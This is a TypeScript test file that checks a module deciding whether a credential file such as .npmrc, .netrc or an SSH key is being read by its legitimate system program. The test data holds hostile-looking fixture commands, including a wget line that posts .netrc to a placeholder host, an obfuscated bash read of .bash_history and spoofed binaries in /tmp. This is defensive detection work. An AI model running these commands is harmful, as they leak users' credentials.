import { describe, expect, it } from 'vitest';
import type { Event } from '../event.ts';
import { Owners } from './owners.ts';

function executed(path: string, command: string, pid = 2): Event {
  return {
    id: 'event:1',
    atMs: 0,
    capability: 'process.spawn',
    operation: 'execve',
    target: command,
    outcome: 'allowed',
    observer: 'kernel',
    process: { pid, command: 'x' },
    detail: { path },
  };
}

function reader(target: string, pid = 2): Pick<Event, 'capability' | 'target' | 'process'> {
  return { capability: 'file.read', target, process: { pid, command: 'npm' } };
}

function ownerAfter(events: readonly Event[], target: string, pid = 2): string | undefined {
  const owners = new Owners();
  for (const event of events) owners.see(event);
  return owners.of(reader(target, pid));
}

const NPM = [executed('/usr/bin/npm', 'npm ci'), executed('/usr/bin/node', 'node /usr/bin/npm ci')];

describe('a program that reads its own credentials', () => {
  it.each([
    ['npm, a script of the system', NPM, '/home/user/.npmrc', 'npm'],
    [
      'git’s helper',
      [executed('/usr/lib/git-core/git-remote-https', 'git-remote-https origin')],
      '/home/user/.netrc',
      'git-remote-https',
    ],
    ['a shell', [executed('/usr/bin/bash', 'bash -i')], '/home/user/.bash_history', 'bash'],
    ['ssh', [executed('/usr/bin/ssh', 'ssh host uptime')], '/home/user/.ssh/id_ed25519', 'ssh'],
  ] as const)('is known: %s', (_, events, target, owner) => {
    expect(ownerAfter(events, target)).toBe(owner);
  });

  it.each([
    ['a program of that name elsewhere', [executed('/tmp/npm', 'npm ci')], '/home/user/.npmrc'],
    ['one that was replaced', [...NPM, executed('/usr/bin/cat', 'cat x')], '/home/user/.npmrc'],
    [
      'an interpreter that runs something else',
      [NPM[0] as Event, executed('/usr/bin/node', 'node evil.js')],
      '/home/user/.npmrc',
    ],
    [
      'its script in the hands of an interpreter of the sample’s',
      [NPM[0] as Event, executed('/tmp/node', 'node /usr/bin/npm ci')],
      '/home/user/.npmrc',
    ],
    ['a path that only begins as the system’s', [executed('/usr/bin/../../tmp/npm', 'npm ci')], '/home/user/.npmrc'],
    [
      'one that was told to',
      [executed('/usr/bin/wget', 'wget --post-file=.netrc http://x.example')],
      '/home/user/.netrc',
    ],
    [
      'a shell that was handed a command',
      [executed('/usr/bin/bash', "bash -c 'n=story; cat <~/.bash_hi$n'")],
      '/home/user/.bash_history',
    ],
    ['what is not its own', NPM, '/home/user/.ssh/id_rsa'],
  ] as const)('is not %s', (_, events, target) => {
    expect(ownerAfter(events, target)).toBeUndefined();
  });

  it('is not its child, which executed nothing of the system', () => {
    expect(ownerAfter(NPM, '/home/user/.npmrc', 3)).toBeUndefined();
  });
});
